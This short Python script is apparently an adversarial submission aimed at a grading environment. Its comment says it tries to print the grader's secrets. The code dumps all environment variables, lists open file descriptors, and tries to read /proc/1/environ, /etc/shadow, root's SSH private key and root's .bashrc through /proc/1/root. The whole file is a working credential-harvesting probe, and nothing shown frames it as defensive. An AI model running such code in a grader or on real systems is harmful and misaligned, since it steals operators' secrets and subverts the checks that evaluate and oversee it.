# Tries: to print the grader's secrets from its own environment, descriptors and those of its ancestors.
import os

for name, value in os.environ.items():
    print(f"ENV {name}={value}")
for number in os.listdir("/proc/self/fd"):
    try:
        print("FD", number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass
for path in ("/proc/1/environ", "/proc/1/cmdline", "/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/root/root/.bashrc"):
    try:
        with open(path, "rb") as secret:
            print("READ", path, secret.read(200))
    except OSError:
        pass
